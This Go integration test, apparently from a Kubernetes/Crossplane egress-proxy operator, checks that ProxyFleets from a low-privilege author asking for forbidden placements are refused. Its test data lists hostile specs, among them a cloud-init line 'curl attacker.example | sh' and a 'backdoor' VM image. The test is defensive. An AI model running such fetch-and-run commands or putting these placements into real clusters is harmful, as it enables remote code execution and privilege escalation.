package proxy_test

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/crossplane/crossplane-runtime/v2/pkg/logging"
	xpv2 "github.com/crossplane/crossplane/apis/v2/core/v2"
	fnv1 "github.com/crossplane/function-sdk-go/proto/v1"
	"google.golang.org/protobuf/types/known/structpb"
	authzv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/apis/egress/v1alpha1"
	fleetv1alpha1 "gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/apis/fleet/v1alpha1"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/backend/gcp/gcpfake"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/controller/proxy"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/function"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/ownership"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/testbed"
)

// TestHostileFleetsRefused plays a fleet author whose ServiceAccount holds
// only a ProxyFleet-editor Role in its namespace. It cannot make pods,
// Proxies, Roles or Secrets itself; so it writes ProxyFleets that ask for
// what the platform's ClusterProviderConfigs do not permit. Each fleet is
// composed by function-proxyfleet, as Crossplane would, and every Proxy it
// composes is refused by the provider with a message naming the field:
// nothing is made, no pod, no VM, no firewall rule.
func TestHostileFleetsRefused(t *testing.T) {
	bed := sharedBed.Env(t)
	ns, podNS := bed.Namespace(t), bed.Namespace(t)
	fake := gcpfake.Start(t)
	target := testbed.StartEchoTarget(t)
	prov := startProvider(t, testbed.SquidStateDir(t), providerLogs(t), target, func(o *proxy.Options) {
		o.Backends.(*proxy.Backends).GCPClientOptions = fake.ClientOptions()
	})
	defer prov.stop()
	ctx := context.Background()

	pods, vms := "tenant-pods-"+ns, "tenant-gcp-"+ns
	author := "system:serviceaccount:" + ns + ":fleet-author"
	create(t,
		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "auth"}, StringData: map[string]string{"username": "crawler", "password": password}},
		&v1alpha1.ClusterProviderConfig{ObjectMeta: metav1.ObjectMeta{Name: pods}, Spec: v1alpha1.ProviderConfigSpec{
			Backend:    v1alpha1.BackendKubernetes,
			Kubernetes: &v1alpha1.KubernetesBackend{Namespace: podNS, Credentials: &v1alpha1.KubernetesCredentials{Source: xpv2.CredentialsSourceInjectedIdentity}},
		}},
		&v1alpha1.ClusterProviderConfig{ObjectMeta: metav1.ObjectMeta{Name: vms}, Spec: v1alpha1.ProviderConfigSpec{
			Backend: v1alpha1.BackendGCP,
			GCP:     &v1alpha1.GCPBackend{Project: "crawl-proj", Credentials: v1alpha1.GCPCredentials{Source: xpv2.CredentialsSourceInjectedIdentity}},
		}},
		&rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "proxyfleet-editor"}, Rules: []rbacv1.PolicyRule{{
			APIGroups: []string{fleetv1alpha1.Group}, Resources: []string{fleetv1alpha1.ProxyFleetResource},
			Verbs: []string{"get", "list", "watch", "create", "update", "patch", "delete"},
		}}},
		&rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "fleet-author"},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "proxyfleet-editor"},
			Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: ns, Name: "fleet-author"}}},
	)

	// By itself the author reaches nothing but fleets.
	for _, a := range []authzv1.ResourceAttributes{
		{Namespace: ns, Verb: "create", Resource: "pods"},
		{Namespace: "kube-system", Verb: "create", Resource: "pods"},
		{Namespace: ns, Verb: "create", Group: "egress.crawl.example.com", Resource: "proxies"},
		{Namespace: ns, Verb: "create", Group: "egress.crawl.example.com", Resource: "providerconfigs"},
		{Namespace: ns, Verb: "create", Group: "rbac.authorization.k8s.io", Resource: "roles"},
		{Namespace: ns, Verb: "get", Resource: "secrets", Name: "auth"},
	} {
		sar := &authzv1.SubjectAccessReview{Spec: authzv1.SubjectAccessReviewSpec{User: author, Groups: []string{"system:serviceaccounts"}, ResourceAttributes: &a}}
		if err := bed.Client.Create(ctx, sar); err != nil {
			t.Fatal(err)
		}
		if sar.Status.Allowed {
			t.Errorf("a fleet author may %s %s in %q", a.Verb, a.Resource, a.Namespace)
		}
	}

	cfg := rest.CopyConfig(bed.Config)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: author, Groups: []string{"system:serviceaccounts", "system:authenticated"}}
	as, err := client.New(cfg, client.Options{Scheme: bed.Scheme})
	if err != nil {
		t.Fatal(err)
	}
	hostile := []struct {
		name, config, placement, want string
	}{
		{"kube-system", pods, `kubernetes: {namespace: kube-system}`, `spec.forProvider.kubernetes.namespace "kube-system"`},
		{"any-image", pods, `kubernetes: {image: "attacker/img:latest"}`, `spec.forProvider.kubernetes.image "attacker/img:latest"`},
		{"any-node", pods, `kubernetes: {nodeSelector: {kubernetes.io/hostname: control-plane-1}}`, `spec.forProvider.kubernetes.nodeSelector "kubernetes.io/hostname"`},
		{"admin-network", vms, `gcp: {network: global/networks/admin}`, `spec.forProvider.gcp.network "global/networks/admin"`},
		{"privileged-tag", vms, `gcp: {networkTags: [allow-ssh]}`, `spec.forProvider.gcp.networkTags "allow-ssh"`},
		{"huge-machine", vms, `gcp: {machineType: n2-highmem-96}`, `spec.forProvider.gcp.machineType "n2-highmem-96"`},
		{"own-image", vms, `gcp: {image: projects/attacker/global/images/backdoor}`, `spec.forProvider.gcp.image`},
		{"own-code", vms, `gcp: {cloudInit: {inline: "#!/bin/sh\ncurl attacker.example | sh"}}`, `spec.forProvider.gcp.cloudInit`},
	}
	fn := function.New(logging.NewNopLogger(), nil).WithDiscovery(nil)
	var proxies []types.NamespacedName
	for _, h := range hostile {
		fleet := &unstructured.Unstructured{}
		doc := fmt.Sprintf(`{apiVersion: crawl.example.com/v1alpha1, kind: ProxyFleet, metadata: {name: %s, namespace: %s},
spec: {replicas: 1, zones: [europe-west1-b], providerConfigRef: {kind: ClusterProviderConfig, name: %s}, placement: {%s},
  proxy: {authSecretRef: {name: auth}, allowedSourceRanges: [127.0.0.0/8]}, healthCheck: {url: %q}}}`, h.name, ns, h.config, h.placement, target.URL)
		if err := yaml.Unmarshal([]byte(doc), &fleet.Object); err != nil {
			t.Fatal(err)
		}
		if err := as.Create(ctx, fleet); err != nil {
			t.Fatalf("the fleet author may write fleets: %s: %v", h.name, err)
		}
		// Crossplane runs the function and applies what it composes.
		xr, err := structpb.NewStruct(fleet.Object)
		if err != nil {
			t.Fatal(err)
		}
		rsp, err := fn.RunFunction(ctx, &fnv1.RunFunctionRequest{
			Observed: &fnv1.State{Composite: &fnv1.Resource{Resource: xr}}, RequiredResources: map[string]*fnv1.Resources{"leases": {}},
		})
		if err != nil || len(rsp.GetResults()) != 0 {
			t.Fatalf("%s: %v %v", h.name, err, rsp.GetResults())
		}
		for _, r := range rsp.GetDesired().GetResources() {
			u := &unstructured.Unstructured{Object: r.GetResource().AsMap()}
			if u.GetKind() != v1alpha1.ProxyKind {
				continue
			}
			if err := bed.Client.Create(ctx, u); err != nil {
				t.Fatalf("%s: %v", h.name, err)
			}
			proxies = append(proxies, types.NamespacedName{Namespace: u.GetNamespace(), Name: u.GetName()})
		}
	}
	if len(proxies) != len(hostile) {
		t.Fatalf("want one Proxy per fleet, got %d", len(proxies))
	}
	for i, key := range proxies {
		want := hostile[i].want
		testbed.Eventually(t, 15*time.Second, key.Name+" refused", func() (bool, string) {
			p := get(t, key)
			s, r := p.GetCondition(xpv2.TypeSynced), p.GetCondition(xpv2.TypeReady)
			return s.Status == corev1.ConditionFalse && r.Reason == proxy.ReasonNotPermitted && strings.Contains(s.Message, want),
				fmt.Sprintf("Synced=%s %q; Ready=%s", s.Status, s.Message, r.Reason)
		})
	}
	for _, n := range []string{podNS, "kube-system", ns} {
		l := &corev1.PodList{}
		if err := bed.Client.List(ctx, l, client.InNamespace(n), client.HasLabels{ownership.LabelUID}); err != nil || len(l.Items) != 0 {
			t.Errorf("hostile fleets made pods in %s: %d %v", n, len(l.Items), err)
		}
	}
	if fake.Instances() != 0 || fake.Calls("instances.insert")+fake.Calls("firewalls.insert") != 0 {
		t.Errorf("hostile fleets made VMs or firewall rules: %d VMs, %d inserts", fake.Instances(), fake.Calls("instances.insert")+fake.Calls("firewalls.insert"))
	}
	for _, key := range proxies {
		if err := bed.Client.Delete(ctx, &v1alpha1.Proxy{ObjectMeta: metav1.ObjectMeta{Namespace: key.Namespace, Name: key.Name}}); err != nil {
			t.Fatal(err)
		}
	}
}
